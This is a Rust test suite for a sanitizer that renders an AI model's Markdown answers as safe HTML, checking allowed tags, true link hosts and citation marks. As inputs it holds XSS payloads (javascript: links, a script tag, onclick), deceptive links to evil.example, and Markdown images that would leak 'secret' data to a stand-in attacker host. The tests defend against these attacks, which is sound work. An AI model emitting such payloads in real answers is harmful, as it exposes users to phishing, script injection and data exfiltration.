//! An answer's Markdown: what it becomes, and what it can never become.

use portcullis_pages::{Source, answer_fragment};
use proptest::prelude::*;

use crate::attacks::{ATTACKS, hostile};
use crate::html::{Element, fragment};
use crate::policy::REL;

const ALLOWED: [&str; 25] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "small",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// What must hold for the inside of every answer.
pub(crate) fn judge_answer(prose: &Element) {
    for (at, element) in prose.all().into_iter().enumerate().skip(1) {
        let name = element.name.as_str();
        assert!(ALLOWED.contains(&name), "`{name}` is the {at}th element of an answer");
        for (attribute, value) in &element.attributes {
            let fits = match (name, attribute.as_str()) {
                ("a", "href") => true,
                ("a", "rel") => value == REL,
                ("ol", "start") => value.bytes().all(|b| b.is_ascii_digit()),
                _ => false,
            };
            assert!(fits, "{name} {attribute}={value:?}");
        }
        // A link's true host stands beside it, unless its text is the address itself.
        for (at, link) in element.children.iter().enumerate() {
            judge_link(link, element.children.get(at + 1));
        }
    }
    for (at, link) in prose.children.iter().enumerate() {
        judge_link(link, prose.children.get(at + 1));
    }
}

fn judge_link(link: &Element, next: Option<&Element>) {
    if link.name != "a" {
        return;
    }
    let Some(address) = link.attribute("href").filter(|address| !address.starts_with('/')) else { return };
    let url = url_of(address);
    let told = next.is_some_and(|next| next.name == "small" && next.text == format!("({url})"));
    let text = link.text.trim();
    let same = text == address || text == address.trim_end_matches('/') || text == url;
    assert!(told || same, "a link to `{address}` says `{text}`");
    assert!(!link.text.trim().is_empty(), "a link to `{address}` that cannot be seen");
}

/// The host, found by other means than the code does.
fn url_of(address: &str) -> &str {
    let rest = address.split_once("://").unwrap().1;
    let authority = rest.split(['/', '?', '#']).next().unwrap();
    assert!(!authority.contains('@'), "{address}");
    match authority.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
        _ => authority,
    }
}

const SOURCES: [Source<'static>; 2] = [
    Source { base: "/c/harbour", number: Some(1), document: "0193-a", title: "Tides <1>" },
    Source { base: "/c/harbour", number: Some(3), document: "0193-b", title: "Night\u{202e} outings" },
];

/// The inside of an answer, without its wrapping and its sources.
fn inside(markdown: &str) -> String {
    let html = answer_fragment(markdown, &SOURCES);
    let inside = html.strip_prefix("<div class=\"prose\" dir=\"auto\">").unwrap();
    inside
        .split_once("</div>\n")
        .map_or(inside, |(inside, _)| inside)
        .split("</div>")
        .next()
        .unwrap()
        .trim()
        .to_owned()
}

#[test]
fn markdown_becomes_what_its_writer_meant() {
    for (markdown, html) in [
        ("At **slack** _water_ ~~now~~.", "<p>At <strong>slack</strong> <em>water</em> <del>now</del>.</p>"),
        ("# One\n\n## Two", "<h3>One</h3>\n<h4>Two</h4>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("7. a", "<ol start=\"7\">\n<li>a</li>\n</ol>"),
        ("```sh\nls <x>\n```", "<pre><code>ls &lt;x&gt;\n</code></pre>"),
        (
            "|a|b|\n|-|:-:|\n|1|2|",
            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>",
        ),
    ] {
        assert_eq!(inside(markdown), html);
    }
}

#[test]
fn a_mark_leads_to_its_source_and_no_other_does() {
    let one =
        "<sup><a href=\"/c/harbour/documents/0193-a\" rel=\"noopener noreferrer nofollow\">[1]</a></sup>";
    assert_eq!(inside("So [1]."), format!("<p>So {one}.</p>"));
    assert_eq!(inside("[2] [1][x][99999]"), format!("<p>[2] {one}[x][99999]</p>"));
    assert_eq!(inside("`a[1]`"), "<p><code>a[1]</code></p>");
    // A definition of the model's does not take a mark over.
    assert_eq!(inside("So [1].\n\n[1]: https://evil.example"), format!("<p>So {one}.</p>"));
}

#[test]
fn a_link_is_shown_with_its_true_host() {
    for (text, host) in [
        ("here", "a.example"),
        ("bank.example", "evil.example"),
        ("https://bank.example", "evil.example"),
        ("bank\u{2024}example/login", "evil.example"),
        ("https://evil.example.bank.example", "evil.example"),
    ] {
        let link = format!("<a href=\"https://{host}/\" rel=\"{REL}\">{text}</a>");
        assert_eq!(
            inside(&format!("[{text}](https://{host}/)")),
            format!("<p>{link} <small>({host})</small></p>")
        );
    }
    // A link without text cannot be seen, so it gets its address; and its address tells its host.
    for markdown in [
        "[](https://a.example/x)",
        "[](<https://a.example/x>)",
        "![](https://a.example/x) [](https://a.example/x)",
    ] {
        assert!(inside(markdown).ends_with(">https://a.example/x</a></p>"), "{}", inside(markdown));
    }
    assert_eq!(
        inside("<https://a.example/x>"),
        "<p><a href=\"https://a.example/x\" rel=\"noopener noreferrer nofollow\">https://a.example/x</a></p>"
    );
    // What the link holds is not what its text says, so the host stands beside it.
    assert_eq!(
        inside("<https://a.example/]]>"),
        format!(
            "<p><a href=\"https://a.example/%5D%5D\" rel=\"{REL}\">https://a.example/]]</a> <small>(a.example)</small></p>"
        )
    );
}

#[test]
fn what_is_no_plain_web_link_is_text() {
    for (markdown, html) in [
        ("[a](javascript:alert(1))", "<p>a</p>"),
        ("[a](data:text/html,x)", "<p>a</p>"),
        ("[a](/login)", "<p>a</p>"),
        ("[a](//evil.example)", "<p>a</p>"),
        ("[a](https://bank.example@evil.example/)", "<p>a</p>"),
        ("<a@b.example>", "<p>a@b.example</p>"),
        ("[a](mailto:a@b.example)", "<p>a</p>"),
        ("![a](https://evil.example/?q=secret)", "<p>a</p>"),
        ("![a][x]\n\n[x]: https://evil.example/?q=secret", "<p>a</p>"),
        ("[![a](https://evil.example/1.png)](javascript:x)", "<p>a</p>"),
    ] {
        assert_eq!(inside(markdown), html, "{markdown}");
    }
}

#[test]
fn raw_html_is_shown_as_what_was_written() {
    assert_eq!(inside("a <b onclick=x>c</b>"), "<p>a &lt;b onclick=x&gt;c&lt;/b&gt;</p>");
    assert_eq!(inside("<script>alert(1)</script>"), "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
    assert_eq!(inside("&lt;img&gt; &#x202e;x&#0;"), "<p>&lt;img&gt; x\u{fffd}</p>");
}

#[test]
fn no_attack_leaves_an_answer() {
    for (_, hostile) in ATTACKS {
        for around in
            [("", ""), ("> - ", ""), ("**", "**"), ("[", "](https://a.example)"), ("|a|\n|-|\n|", "|")]
        {
            let seen = fragment(&answer_fragment(&format!("{}{hostile}{}", around.0, around.1), &SOURCES));
            assert_eq!(seen.len(), 2);
            judge_answer(&seen[0]);
        }
    }
}

/// Parsers take time and stack in proportion to depth. This runs on a small stack, and is over in moments or not at all.
#[test]
fn depth_and_repetition_are_bounded() {
    let many = 6_000;
    let texts = [
        "> ".repeat(many),
        "* ".repeat(many),
        "*a **b ".repeat(many),
        "[".repeat(many),
        "![".repeat(many),
        "[a](".repeat(many),
        "<".repeat(many),
        "[1]".repeat(many),
        "`".repeat(many),
        "|a".repeat(many),
        "[a](https://a.example) ".repeat(many / 10),
        "_a_ ~~b~~ ".repeat(many),
        "&".repeat(many),
        "a\n\n".repeat(many),
    ];
    let run = move || {
        for text in texts {
            let seen = fragment(&answer_fragment(&text, &SOURCES));
            let deepest = seen.iter().map(depth).max().unwrap();
            assert!(deepest < 50, "{deepest} deep: {:.20}", text);
        }
    };
    std::thread::Builder::new().stack_size(1 << 20).spawn(run).unwrap().join().unwrap();
}

/// Just long enough to be rendered, and one byte longer: each is quick, and the longer one is text and nothing else.
#[test]
fn an_answer_that_is_too_long_is_text() {
    const LONGEST: usize = 64 * 1024;
    for unit in ["&", "<", "\"", "\u{202e}", "<b>", "[1]", "[a](https://a.example)", "**a**\n\n", "- "] {
        let mut text = unit.repeat(LONGEST / unit.len());
        text.push_str(&"a".repeat(LONGEST - text.len()));
        judge_answer(&fragment(&answer_fragment(&text, &SOURCES))[0]);

        text.push('a');
        let seen = fragment(&answer_fragment(&text, &SOURCES));
        assert!(seen[0].all().iter().skip(1).all(|it| it.name == "p"), "{unit:?} became markup");
        let (shown, written) = (seen[0].text.split_whitespace(), text.replace('\u{202e}', ""));
        assert!(shown.eq(written.split_whitespace()), "{unit:?} lost text");
        assert_eq!(seen[1].attribute("class"), Some("sources"), "its sources are named all the same");
    }
}

fn depth(element: &Element) -> usize {
    1 + element.children.iter().map(depth).max().unwrap_or(0)
}

#[test]
fn an_answer_is_as_it_was() {
    let text = "# When to go\n\nAt **slack water** [1], never alone [3], and see \
                [the tables](https://tides.example/2026?x=1&y=2).\n\n1. Look at the board\n2. Sign out a boat [2]\n\n\
                > <b>Quoted</b>\n\n```text\nHW 12:40\n```\n\n![map](https://evil.example/map.png)";
    insta::assert_snapshot!("answer", answer_fragment(text, &SOURCES));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 768, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_markdown_stays_within_the_list(text in hostile(), title in hostile(), base in hostile(), id in hostile()) {
        let source = Source { base: &base, number: Some(1), document: &id, title: &title };
        let seen = fragment(&answer_fragment(&text, &[source]));
        let classes: Vec<_> = seen.iter().map(|it| it.attribute("class")).collect();
        prop_assert_eq!(classes, [Some("prose"), Some("sources")]);
        judge_answer(&seen[0]);
        let names: Vec<_> = seen[1].all().into_iter().map(|it| it.name.as_str()).collect();
        prop_assert_eq!(names, ["div", "h3", "ul", "li", "a", "span", "bdi"]);
    }
}
